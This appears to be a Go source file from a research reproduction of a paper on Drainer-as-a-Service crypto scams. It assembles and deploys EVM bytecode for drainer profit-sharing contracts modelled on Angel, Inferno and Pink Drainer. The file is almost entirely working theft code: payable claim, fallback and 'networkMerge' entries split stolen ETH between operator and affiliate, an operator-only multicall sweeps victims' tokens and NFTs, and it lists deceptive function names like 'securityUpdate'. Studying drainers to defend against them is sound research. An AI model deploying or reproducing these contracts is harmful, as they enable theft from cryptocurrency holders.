@@ -1,0 +1,296 @@
+// Package contracts generates and analyzes the EVM bytecode of DaaS
+// profit-sharing contracts.
+//
+// Three template styles mirror the dominant families of the paper's
+// Table 3: a payable named claim function (Angel Drainer), a payable
+// fallback function (Inferno Drainer), and a payable "Network Merge"
+// function (Pink Drainer). Every template also carries the multicall
+// entry used to steal ERC-20 tokens and NFTs. The decompiler recovers
+// selectors statically and payability/ratios dynamically, standing in
+// for the Dedaub decompilation step of the paper.
+package contracts
+
+import (
+	"fmt"
+	"math/big"
+
+	"repro/internal/ethabi"
+	"repro/internal/ethtypes"
+	"repro/internal/evm"
+)
+
+// Style selects the profit-sharing template family.
+type Style int
+
+// Template styles, named for the DaaS family whose deployed contracts
+// they match.
+const (
+	// StyleClaim uses a payable function named Claim(address) to steal
+	// ETH (Angel Drainer).
+	StyleClaim Style = iota
+	// StyleFallback uses the payable fallback function; the affiliate
+	// address is fixed in storage at deployment (Inferno Drainer).
+	StyleFallback
+	// StyleNetworkMerge uses a payable function named
+	// networkMerge(address) (Pink Drainer).
+	StyleNetworkMerge
+)
+
+func (s Style) String() string {
+	switch s {
+	case StyleClaim:
+		return "claim"
+	case StyleFallback:
+		return "fallback"
+	case StyleNetworkMerge:
+		return "network-merge"
+	default:
+		return "unknown"
+	}
+}
+
+// Storage slot assignments shared by all templates.
+var (
+	slotOperator   = big.NewInt(0)
+	slotAffiliate  = big.NewInt(1)
+	slotRatio      = big.NewInt(2) // operator share in per-mille (‰)
+	slotAuthorized = big.NewInt(3) // account allowed to invoke multicall
+)
+
+// MulticallSignature is the token/NFT theft entry shared by dominant
+// families.
+const MulticallSignature = "multicall((address,bytes)[])"
+
+// SelMulticall is the multicall selector.
+var SelMulticall = ethabi.Selector(MulticallSignature)
+
+// ClaimSignatures are the payable-function names observed across
+// claim-style drainer deployments (paper §4.2: "claim", "mint", ...).
+var ClaimSignatures = []string{
+	"Claim(address)",
+	"claim(address)",
+	"claimRewards(address)",
+	"mint(address)",
+	"claimReward(address)",
+	"securityUpdate(address)",
+}
+
+// NetworkMergeSignature is Pink Drainer's ETH-theft function.
+const NetworkMergeSignature = "networkMerge(address)"
+
+// Spec parameterizes one profit-sharing contract deployment.
+type Spec struct {
+	Style Style
+	// MainSignature overrides the named payable function; it must take
+	// a single address argument. Empty selects the style default.
+	MainSignature string
+	// Operator receives OperatorPerMille ‰ of every theft.
+	Operator ethtypes.Address
+	// Affiliate receives the remainder on fallback-style contracts
+	// (named styles take the affiliate from calldata).
+	Affiliate ethtypes.Address
+	// OperatorPerMille is the operator share in tenths of a percent,
+	// e.g. 200 = 20%, 175 = 17.5%.
+	OperatorPerMille int64
+	// Authorized is the only account allowed to call multicall
+	// (typically an operator-run executor EOA).
+	Authorized ethtypes.Address
+}
+
+// mainSignature resolves the named ETH-theft function for the spec.
+func (s Spec) mainSignature() string {
+	if s.MainSignature != "" {
+		return s.MainSignature
+	}
+	switch s.Style {
+	case StyleNetworkMerge:
+		return NetworkMergeSignature
+	default:
+		return ClaimSignatures[0]
+	}
+}
+
+// Validate rejects specs that would assemble a broken contract.
+func (s Spec) Validate() error {
+	if s.OperatorPerMille <= 0 || s.OperatorPerMille >= 1000 {
+		return fmt.Errorf("contracts: operator share %d‰ out of range (0, 1000)", s.OperatorPerMille)
+	}
+	if s.Operator.IsZero() {
+		return fmt.Errorf("contracts: operator address unset")
+	}
+	if s.Style == StyleFallback && s.Affiliate.IsZero() {
+		return fmt.Errorf("contracts: fallback style needs a fixed affiliate")
+	}
+	return nil
+}
+
+// Runtime assembles the runtime bytecode for the spec.
+func Runtime(spec Spec) ([]byte, error) {
+	if err := spec.Validate(); err != nil {
+		return nil, err
+	}
+	a := evm.NewAssembler()
+
+	// Dispatcher: short calldata goes to the fallback path.
+	a.PushInt(4).Op(evm.CALLDATASIZE, evm.LT) // calldatasize < 4
+	a.JumpIf("fallback")
+	// sel := shr(224, calldataload(0))
+	a.Op(evm.PUSH0, evm.CALLDATALOAD).PushInt(224).Op(evm.SHR)
+	if spec.Style != StyleFallback {
+		sel := ethabi.Selector(spec.mainSignature())
+		a.Op(evm.DUP1).PushBytes(sel[:]).Op(evm.EQ).JumpIf("main")
+	}
+	mSel := SelMulticall
+	a.Op(evm.DUP1).PushBytes(mSel[:]).Op(evm.EQ).JumpIf("multicall")
+	a.Jump("fallback")
+
+	if spec.Style != StyleFallback {
+		// main: split ETH between operator and the affiliate passed as
+		// the first calldata argument.
+		a.Label("main")
+		a.Op(evm.POP) // drop selector copy
+		emitSplit(a, func(a *evm.Assembler) {
+			a.PushInt(4).Op(evm.CALLDATALOAD) // affiliate from calldata
+		})
+	}
+
+	// fallback: fallback-style contracts split here with the stored
+	// affiliate; named styles accept plain ETH and do nothing further
+	// (tokens sit until swept), matching observed deployments.
+	a.Label("fallback")
+	if spec.Style == StyleFallback {
+		emitSplit(a, func(a *evm.Assembler) {
+			a.Push(slotAffiliate).Op(evm.SLOAD) // affiliate from storage
+		})
+	} else {
+		a.Stop()
+	}
+
+	// multicall: operator-only batch executor for ERC-20/NFT theft.
+	a.Label("multicall")
+	a.Op(evm.POP) // drop selector copy
+	a.Op(evm.CALLER).Push(slotAuthorized).Op(evm.SLOAD, evm.EQ)
+	a.JumpIf("mcok")
+	a.Revert()
+	a.Label("mcok")
+	emitMulticall(a)
+
+	return a.Assemble()
+}
+
+// emitSplit appends code that forwards CALLVALUE×ratio to the operator
+// and the remainder to the affiliate produced by pushAffiliate.
+// Terminates with STOP.
+func emitSplit(a *evm.Assembler, pushAffiliate func(*evm.Assembler)) {
+	// op := callvalue * sload(ratio) / 1000
+	a.Op(evm.CALLVALUE).Push(slotRatio).Op(evm.SLOAD, evm.MUL)
+	a.PushInt(1000).Op(evm.SWAP1, evm.DIV) // [op]
+	// aff := callvalue - op
+	a.Op(evm.DUP1, evm.CALLVALUE, evm.SUB) // [op, aff]
+	a.Op(evm.SWAP1)                        // [aff, op]
+	// call(gas, operator, op, 0, 0, 0, 0)
+	a.Op(evm.PUSH0, evm.PUSH0, evm.PUSH0, evm.PUSH0) // outSize outOff inSize inOff
+	a.Op(evm.DUP1 + 4)                               // value = op
+	a.Push(slotOperator).Op(evm.SLOAD)               // to = operator
+	a.Op(evm.GAS, evm.CALL, evm.POP)
+	a.Op(evm.POP) // drop op → [aff]
+	// call(gas, affiliate, aff, 0, 0, 0, 0)
+	a.Op(evm.PUSH0, evm.PUSH0, evm.PUSH0, evm.PUSH0)
+	a.Op(evm.DUP1 + 4) // value = aff
+	pushAffiliate(a)   // to = affiliate
+	a.Op(evm.GAS, evm.CALL, evm.POP)
+	a.Op(evm.POP)
+	a.Stop()
+}
+
+// emitMulticall appends the (address,bytes)[] batch-execution loop.
+// Expects an empty stack; terminates with STOP.
+func emitMulticall(a *evm.Assembler) {
+	a.Op(evm.PUSH0) // i = 0
+	a.Label("mcloop")
+	// n := calldataload(4 + calldataload(4))
+	a.PushInt(4).Op(evm.CALLDATALOAD).PushInt(4).Op(evm.ADD) // [i, base]
+	a.Op(evm.CALLDATALOAD)                                   // [i, n]
+	a.Op(evm.DUP1 + 1)                                       // [i, n, i]
+	a.Op(evm.LT)                                             // [i, i<n]
+	a.JumpIf("mcbody")
+	a.Stop()
+
+	a.Label("mcbody")                                        // [i]
+	a.PushInt(4).Op(evm.CALLDATALOAD).PushInt(4).Op(evm.ADD) // [i, base]
+	// elem := base + 32 + calldataload(base + 32 + 32*i)
+	a.Op(evm.DUP1 + 1).PushInt(32).Op(evm.MUL) // [i, base, 32i]
+	a.Op(evm.DUP1+1, evm.ADD)                  // [i, base, base+32i]
+	a.PushInt(32).Op(evm.ADD)                  // [i, base, base+32i+32]
+	a.Op(evm.CALLDATALOAD)                     // [i, base, rel]
+	a.Op(evm.DUP1+1, evm.ADD)                  // [i, base, base+rel]
+	a.PushInt(32).Op(evm.ADD)                  // [i, base, elem]
+	a.Op(evm.DUP1, evm.CALLDATALOAD)           // [i, base, elem, target]
+	a.Op(evm.SWAP1)                            // [i, base, target, elem]
+	a.Op(evm.DUP1).PushInt(32).Op(evm.ADD)     // [i, base, target, elem, elem+32]
+	a.Op(evm.CALLDATALOAD, evm.ADD)            // [i, base, target, bytesPtr]
+	a.Op(evm.DUP1, evm.CALLDATALOAD)           // [i, base, target, bytesPtr, len]
+	a.Op(evm.SWAP1).PushInt(32).Op(evm.ADD)    // [i, base, target, len, dataPtr]
+	// calldatacopy(0, dataPtr, len)
+	a.Op(evm.DUP1+1, evm.SWAP1, evm.PUSH0, evm.CALLDATACOPY) // [i, base, target, len]
+	// call(gas, target, 0, 0, len, 0, 0)
+	a.Op(evm.PUSH0, evm.PUSH0) // outSize outOff
+	a.Op(evm.DUP1 + 2)         // inSize = len
+	a.Op(evm.PUSH0, evm.PUSH0) // inOff, value
+	a.Op(evm.DUP1 + 6)         // to = target
+	a.Op(evm.GAS, evm.CALL, evm.POP)
+	a.Op(evm.POP, evm.POP, evm.POP) // drop len, target, base → [i]
+	a.PushInt(1).Op(evm.ADD)        // i++
+	a.Jump("mcloop")
+}
+
+// Deploy assembles initcode that stores the spec's configuration and
+// installs the runtime — pass it as the Data of a creation transaction.
+func Deploy(spec Spec) ([]byte, error) {
+	runtime, err := Runtime(spec)
+	if err != nil {
+		return nil, err
+	}
+	a := evm.NewAssembler()
+	store := func(slot *big.Int, val *big.Int) {
+		a.Push(val).Push(slot).Op(evm.SSTORE)
+	}
+	store(slotOperator, new(big.Int).SetBytes(spec.Operator[:]))
+	if !spec.Affiliate.IsZero() {
+		store(slotAffiliate, new(big.Int).SetBytes(spec.Affiliate[:]))
+	}
+	store(slotRatio, big.NewInt(spec.OperatorPerMille))
+	if !spec.Authorized.IsZero() {
+		store(slotAuthorized, new(big.Int).SetBytes(spec.Authorized[:]))
+	}
+	a.PushInt(int64(len(runtime)))
+	a.PushLabel("rt")
+	a.PushInt(0)
+	a.Op(evm.CODECOPY)
+	a.PushInt(int64(len(runtime))).PushInt(0).Op(evm.RETURN)
+	a.Mark("rt")
+	a.Op(runtime...)
+	return a.Assemble()
+}
+
+// MulticallData encodes calldata for the multicall entry from a list of
+// (target, payload) pairs.
+func MulticallData(calls []MulticallStep) ([]byte, error) {
+	steps := make([]any, len(calls))
+	for i, c := range calls {
+		steps[i] = []any{c.Target, c.Payload}
+	}
+	argT := ethabi.SliceOf(ethabi.TupleOf(ethabi.AddressT, ethabi.BytesT))
+	return ethabi.EncodeCall(MulticallSignature, []ethabi.Type{argT}, []any{steps})
+}
+
+// MulticallStep is one inner call of a multicall batch.
+type MulticallStep struct {
+	Target  ethtypes.Address
+	Payload []byte
+}
+
+// ClaimData encodes calldata for a named ETH-theft function.
+func ClaimData(signature string, affiliate ethtypes.Address) ([]byte, error) {
+	return ethabi.EncodeCall(signature, []ethabi.Type{ethabi.AddressT}, []any{affiliate})
+}
